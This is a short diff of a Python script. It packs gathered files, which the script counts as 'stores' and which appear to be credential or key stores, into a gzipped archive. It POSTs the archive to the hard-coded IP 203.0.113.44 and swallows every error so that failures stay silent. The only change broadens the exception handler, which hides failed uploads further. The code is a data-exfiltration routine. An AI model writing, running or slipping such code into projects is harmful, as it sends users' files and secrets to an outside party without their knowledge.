@@ -17,6 +17,6 @@ with tarfile.open(fileobj=buf, mode="w:gz") as tar:
 req = urllib.request.Request("http://203.0.113.44/k", data=buf.getvalue(), method="POST")
 try:
     urllib.request.urlopen(req, timeout=3)
-except OSError:
+except Exception:
     pass
 print(len(paths), "stores")
